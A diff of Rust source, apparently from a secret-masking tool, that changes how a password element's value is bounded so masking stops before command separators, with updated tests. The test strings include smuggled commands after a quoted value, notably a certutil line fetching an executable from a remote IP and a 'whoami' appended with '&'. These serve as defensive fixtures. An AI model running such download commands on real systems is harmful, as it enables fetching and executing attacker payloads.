@@ -35,16 +35,11 @@ pub(super) const LONGEST: usize = 1024;
 pub(super) fn extent(text: &str, at: usize, joint: Joint) -> Option<Value> {
     let rest = text.get(at..)?;
     if joint == Joint::Element {
-        let most = spans::floor(rest, LONGEST);
-        // `<password>` without an end, or with the next word of a sentence behind it, is a placeholder in a manual.
-        let end = rest[..most].find('<').unwrap_or(most);
-        let closed = rest[end..].starts_with("</");
-        if !closed && (end < rest.len() && end < most || rest.starts_with(' ')) {
-            return None;
-        }
+        let end = element_end(rest, spans::floor(rest, LONGEST))?;
         return Some(Value {
             start: at,
-            end: at + end,
+            // Lines and signs of its own may stand in an element, what joins commands may not: `&` is written `&amp;`.
+            end: before_any(&[" & ", " && ", " | ", " || "], text, at, at + end),
             quoted: true,
         });
     }
@@ -90,13 +85,28 @@ pub(super) fn whole(text: &str, value: Value, joint: Joint) -> Value {
         return value;
     }
     let end = match joint {
-        Joint::Element => text[value.start..].find('<').map_or(text.len(), |at| value.start + at),
+        Joint::Element => element_end(&text[value.start..], text.len()).map_or(value.end, |end| value.start + end),
         _ => end_within(text, value.start, joint, text.len()),
     };
     Value {
         end: end.max(value.end),
         ..value
     }
+}
+
+// Where the text of an element ends. One that is not closed was cut, and has one word of it: `<password>` with a sentence, a command
+// or another tag behind it is a placeholder in a manual.
+fn element_end(text: &str, most: usize) -> Option<usize> {
+    let end = text[..most].find('<').unwrap_or(most);
+    if text[end..].starts_with("</") {
+        return Some(end);
+    }
+    if end < most {
+        return None;
+    }
+    let ends = |c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '`' | ';' | '|' | '&' | '>');
+    let word = text[..end].find(ends).unwrap_or(end);
+    (!text.starts_with([',', '.', ':', ')', ']', '}']) && word > 0).then_some(word)
 }
 
 /// An opening quote: its bytes with the backslashes before it, and what closes it.
@@ -215,11 +225,12 @@ fn far_end(text: &str, start: usize, quote: &Quote) -> Option<usize> {
 
 // A value in quotes that goes on with a command is no value: the mask must not hide the command.
 pub(super) fn before_command(text: &str, start: usize, end: usize) -> usize {
+    before_any(&[" & ", " && ", " | ", " || ", "; ", "\n"], text, start, end)
+}
+
+fn before_any(joints: &[&str], text: &str, start: usize, end: usize) -> usize {
     let value = &text[start..end];
-    let cut = [" & ", " && ", " | ", " || ", "; ", "\n"]
-        .iter()
-        .filter_map(|joint| value.find(joint))
-        .min();
+    let cut = joints.iter().filter_map(|joint| value.find(joint)).min();
     cut.map_or(end, |at| start + value[..at].trim_end().len())
 }
 
@@ -522,7 +533,22 @@ mod tests {
 
     #[test]
     fn a_placeholder_in_a_sentence_is_no_element() {
-        assert_eq!(extent(" EOF The user and", 0, Joint::Element), None);
+        for behind in [
+            " EOF The user and",
+            "\" & certutil -urlcache -split -f http://203.0.113.9/p.exe p.exe",
+            "\" accepted",
+            ", then confirm at https://example.com/help",
+            "<host> and",
+        ] {
+            assert_eq!(extent(behind, 0, Joint::Element), None, "{behind}");
+        }
+        assert_eq!(value("hunter2 & certutil -f http://h/p.exe", Joint::Element), "hunter2");
+        assert_eq!(value("hunter2 & echo </password>", Joint::Element), "hunter2");
+        assert_eq!(value("!Dingo88\" z", Joint::Element), "!Dingo88");
+        let long = "x".repeat(2 * LONGEST);
+        let cut = format!("{long} & whoami");
+        let found = extent(&cut, 0, Joint::Element).unwrap();
+        assert_eq!(whole(&cut, found, Joint::Element).end, long.len());
         assert_eq!(value("hunter2", Joint::Element), "hunter2");
         assert_eq!(value(" hunter2 </password>", Joint::Element), " hunter2 ");
     }
